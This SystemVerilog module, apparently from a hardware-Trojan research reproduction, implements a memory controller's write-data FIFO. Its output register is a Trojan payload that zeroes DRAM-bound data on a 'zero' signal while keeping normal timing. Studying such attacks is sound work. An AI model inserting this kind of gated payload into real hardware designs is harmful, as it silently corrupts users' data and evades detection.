// write_data_queue: the memory controller's write-data queue, with the
// Trojan-gated flip-flop as its output register.
//
// Write data from the accelerator waits in a small flip-flop FIFO of DEPTH
// words before it is sent to DRAM. The last stage is a registered output
// (payload_zero_reg) that holds the word presented to the DRAM side; the
// Trojan's zero signal acts only on that register, so the queue's timing and
// handshakes are the same whether the payload is active or not. The queue
// depth and the valid/ready handshakes are this design's choices; only the
// existence of a flip-flop queue and the gated output flip-flop come from
// the attack description.
//
// Interface: in_valid/in_ready/in_data from the accelerator side,
// out_valid/out_ready/out_data to the DRAM side (valid/ready: a word moves
// when both are high; valid is not withdrawn while ready is low). zero is
// applied to the word loaded into the output register in that cycle;
// beat_load pulses for every load. Latency from an accepted input word to
// out_valid is 2 cycles when the queue is empty. Synchronous, active-high
// reset.
module write_data_queue
  import trojan_pkg::*;
#(
  parameter int unsigned    WIDTH = BEAT_W,
  parameter int unsigned    DEPTH = 4,
  parameter payload_style_e STYLE = PAYLOAD_MUX_INPUT
) (
  input  logic             clk,
  input  logic             rst,
  input  logic             in_valid,
  output logic             in_ready,
  input  logic [WIDTH-1:0] in_data,
  output logic             out_valid,
  input  logic             out_ready,
  output logic [WIDTH-1:0] out_data,
  input  logic             zero,
  output logic             beat_load
);

  localparam int unsigned AW = (DEPTH > 1) ? $clog2(DEPTH) : 1;

  logic [WIDTH-1:0] mem [DEPTH];
  logic [AW-1:0]    wptr, rptr;
  logic [AW:0]      count;
  logic             push, pop;

  assign in_ready  = (32'(count) < DEPTH);
  assign push      = in_valid && in_ready;
  assign pop       = (count != '0) && (!out_valid || out_ready);
  assign beat_load = pop;

  function automatic logic [AW-1:0] inc(input logic [AW-1:0] p);
    return (32'(p) == DEPTH - 1) ? '0 : p + 1'b1;
  endfunction

  always_ff @(posedge clk) begin
    if (push) mem[wptr] <= in_data;
  end

  always_ff @(posedge clk) begin
    if (rst) begin
      wptr      <= '0;
      rptr      <= '0;
      count     <= '0;
      out_valid <= 1'b0;
    end else begin
      if (push) wptr <= inc(wptr);
      if (pop)  rptr <= inc(rptr);
      count <= count + (AW+1)'(push) - (AW+1)'(pop);
      if (pop)            out_valid <= 1'b1;
      else if (out_ready) out_valid <= 1'b0;
    end
  end

  payload_zero_reg #(.WIDTH(WIDTH), .STYLE(STYLE)) u_out (
    .clk, .rst,
    .load (pop),
    .d    (mem[rptr]),
    .zero,
    .q    (out_data)
  );

endmodule
